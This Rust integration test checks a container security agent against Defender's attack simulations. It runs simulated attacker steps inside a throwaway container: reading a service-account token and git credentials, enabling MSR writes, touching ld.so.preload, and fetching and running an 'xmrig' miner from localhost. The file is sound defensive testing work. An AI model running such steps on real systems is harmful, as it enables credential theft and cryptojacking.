//! Microsoft Defender for Containers' attack-simulation scenarios
//! (corpora/runtime/defender/attack_simulation_scenarios.json), re-enacted inside a real
//! container run by a private containerd, each behaviour exec'd through the runtime as the
//! simulation's attacker does through its web shell. Each scenario must raise the Palisade
//! detections that answer Defender's expected alerts. Behaviours that cannot happen on this
//! machine are listed in SKIPPED with the reason, and the test checks that list against the
//! corpus so none is forgotten. Root required.

// Waits on real processes from synchronous tests: std's clock.
#![allow(clippy::disallowed_types)]

mod support;

use std::path::Path;
use std::process::{Child, Command};
use std::time::{Duration, Instant};

use sha2::{Digest, Sha256};
use support::containerd::PrivateContainerd;
use support::image::build_busybox_image;

const IMAGE: &str = "docker.io/palisade/victim:1.0";

/// Defender alerts that cannot be raised here, and why.
const SKIPPED: &[(&str, &str)] = &[
    (
        "Possible Web Shell activity detected",
        "the victim image here is busybox, whose shell runs applets through /proc/self/exe, so a CGI shell cannot be told from the web server by name; the rule is covered by the Tetragon and unit tests",
    ),
    (
        "Suspicious Kubernetes service account operation detected",
        "a control-plane (audit log) detection, raised by the audit watcher, not the node agent",
    ),
    (
        "Network scanning tool detected",
        "nmap is not installed in the test image and scanning is not allowed from this machine",
    ),
    (
        "Access to cloud metadata service detected",
        "this machine may not send traffic to 169.254.169.254; the rule is exercised on recorded connects in unit tests",
    ),
    (
        "Communication with test domain identified by threat intelligence",
        "needs DNS and a threat-intelligence feed; no traffic leaves this machine",
    ),
];

/// Defender's expected alert -> the Palisade rules that answer it here.
const ANSWERS: &[(&str, &[&str])] = &[
    (
        "Suspicious access to workload identity token or service account token detected",
        &["Service account token read by a shell tool"],
    ),
    (
        "Sensitive files access detected",
        &["Cloud or git credentials file read"],
    ),
    (
        "Possible secret reconnaissance detected",
        &["Secret reconnaissance"],
    ),
    (
        "Command within a container accessed ld.so.preload",
        &["Dynamic linker preload file accessed"],
    ),
    (
        "Possible Cryptocoinminer download detected",
        &["Crypto miner downloaded"],
    ),
    (
        "A drift binary detected executing in the container",
        &["Drifted binary executed in container"],
    ),
    (
        "Digital currency mining related behavior detected",
        &["Crypto miner started"],
    ),
    (
        "Kubernetes CPU optimization detected",
        &["CPU model-specific registers unlocked"],
    ),
];

struct Agent {
    child: Child,
    stdout: std::path::PathBuf,
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start_agent(directory: &Path, socket: &Path) -> Agent {
    let stdout = directory.join("agent.stdout");
    let stderr = directory.join("agent.stderr");
    let child = Command::new(env!("CARGO_BIN_EXE_palisade-node-agent"))
        .args(["--stdout", "--sensor", "ebpf"])
        .arg("--containerd")
        .arg(socket)
        .stdout(std::fs::File::create(&stdout).expect("stdout"))
        .stderr(std::fs::File::create(&stderr).expect("stderr"))
        .spawn()
        .expect("agent starts");
    let start = Instant::now();
    while !std::fs::read_to_string(&stderr)
        .unwrap_or_default()
        .contains("sensor started")
    {
        assert!(
            start.elapsed() < Duration::from_secs(60),
            "agent did not start"
        );
        std::thread::sleep(Duration::from_millis(100));
    }
    Agent { child, stdout }
}

#[test]
fn defender_attack_simulation_scenarios_raise_their_detections() {
    let scenarios: serde_json::Value = serde_json::from_str(
        &std::fs::read_to_string(palisade_testkit::corpus_path(
            "runtime/defender/attack_simulation_scenarios.json",
        ))
        .expect("corpus"),
    )
    .expect("json");
    let expected: Vec<String> = scenarios["scenarios"]
        .as_array()
        .expect("scenarios")
        .iter()
        .flat_map(|scenario| {
            scenario["expected_alerts"]
                .as_array()
                .cloned()
                .unwrap_or_default()
        })
        .filter_map(|alert| alert.as_str().map(str::to_string))
        .collect();
    for alert in &expected {
        let known = SKIPPED.iter().any(|(name, _)| name == alert)
            || ANSWERS.iter().any(|(name, _)| name == alert);
        assert!(
            known,
            "Defender alert {alert:?} is neither re-enacted nor explained"
        );
    }

    let scratch = tempfile::Builder::new()
        .prefix("pal-def")
        .tempdir_in("/tmp")
        .expect("tempdir");
    let daemon = PrivateContainerd::start(scratch.path());
    let archive = build_busybox_image(scratch.path(), IMAGE);
    daemon.ctr_ok(&["images", "import", archive.to_str().expect("path")]);
    let agent = start_agent(scratch.path(), &daemon.socket);
    let id = hex::encode(Sha256::digest(format!("victim-{}", std::process::id())));
    daemon.ctr_ok(&[
        "run",
        "-d",
        "--net-host",
        "--label",
        "io.kubernetes.pod.name=victim",
        "--label",
        "io.kubernetes.pod.namespace=sim",
        IMAGE,
        &id,
        "sleep",
        "60",
    ]);
    std::thread::sleep(Duration::from_millis(500));
    let mut exec_counter = 0;
    let mut exec = |args: &[&str]| {
        exec_counter += 1;
        let exec_id = format!("step-{exec_counter}");
        let mut full = vec!["tasks", "exec", "--exec-id", exec_id.as_str(), id.as_str()];
        full.extend_from_slice(args);
        let _ = daemon.ctr(&full);
    };
    // set-up the victim's files as a pod has them
    exec(&[
        "sh",
        "-c",
        "mkdir -p /var/run/secrets/kubernetes.io/serviceaccount /root && echo token > /var/run/secrets/kubernetes.io/serviceaccount/token && echo https://u:p@git.local > /root/.git-credentials",
    ]);
    // recon: service-account token read
    exec(&["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
    // secrets: search for and read stored credentials
    exec(&["find", "/root", "-name", ".git-credentials"]);
    exec(&["cat", "/root/.git-credentials"]);
    // crypto: msr, ld.so.preload, miner download, drifted miner
    exec(&["modprobe", "msr", "allow_writes=on"]);
    exec(&["touch", "/etc/ld.so.preload"]);
    exec(&["wget", "-q", "-T", "1", "http://127.0.0.1:9/xmrig"]);
    exec(&["cp", "/bin/busybox", "/tmp/xmrig"]);
    exec(&["/tmp/xmrig", "true"]);
    std::thread::sleep(Duration::from_secs(3));

    let text = std::fs::read_to_string(&agent.stdout).expect("agent output");
    let alerts: Vec<serde_json::Value> = text
        .lines()
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_str(line).expect("json"))
        .collect();
    for (defender_alert, rules) in ANSWERS {
        for rule in *rules {
            let found = alerts.iter().find(|alert| {
                alert["rule"] == *rule && alert["output_fields"]["container.id"] == id[..12]
            });
            let alert = found.unwrap_or_else(|| {
                let seen: Vec<&serde_json::Value> =
                    alerts.iter().map(|alert| &alert["rule"]).collect();
                panic!("{defender_alert:?}: no {rule:?} alert; seen {seen:?}")
            });
            assert_eq!(alert["output_fields"]["k8s.pod.name"], "victim", "{rule}");
        }
    }
}
